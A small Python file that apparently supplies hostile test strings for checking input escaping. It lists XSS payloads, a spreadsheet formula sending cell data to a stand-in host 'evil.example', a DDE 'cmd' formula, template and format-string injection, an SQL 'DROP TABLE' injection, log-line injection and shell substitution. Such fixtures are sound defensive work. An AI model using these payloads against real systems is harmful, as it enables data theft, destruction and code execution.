"""Texts that mean something to a program which takes them for more than text."""

HOSTILE = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": '"\' onmouseover=alert(1) x="',
    "telegram_html": '<b>grosso</b> <a href="tg://user?id=1">io</a> &lt; & </b>',
    "formula": '=HYPERLINK("http://evil.example?"&A1;"clic")',
    "plus_formula": "+cmd|' /C calc'!A0",
    "jinja": "{{ 7*7 }}{% for x in () %}{{ config.__class__ }}",
    "format": "{0.__class__.__mro__} {agent} {business} %s %(name)s",
    "sql": "'); DROP TABLE cases; -- \" OR 1=1 --",
    "log_line": "ok\n2026-01-01 [error] a line of its own\r\x1b[31mred\x1b[0m",
    "template_literal": "${alert(1)} `id` $(id)",
}
